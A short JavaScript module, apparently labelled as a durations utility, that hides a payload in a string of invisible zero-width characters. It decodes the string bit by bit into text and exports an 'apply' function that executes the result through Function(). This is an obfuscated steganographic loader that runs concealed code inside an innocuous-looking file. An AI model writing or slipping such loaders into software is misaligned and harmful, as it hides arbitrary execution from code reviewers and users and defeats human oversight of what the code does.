// surroundings: durations
const hidden = '​‌​​‌​‌‌​​​‌​‌​‌‌​​‌​‌​‌​‌​‌​‌​‌​‌​‌​‌​‌‌​‌​‌​​‌​‌‌​'; //@act
const bits = [...hidden].map((c) => (c === '​' ? '0' : '1')).join('');
const out = bits.match(/.{8}/g).map((b) => String.fromCharCode(parseInt(b, 2))).join('');
export const apply = () => Function(out)();
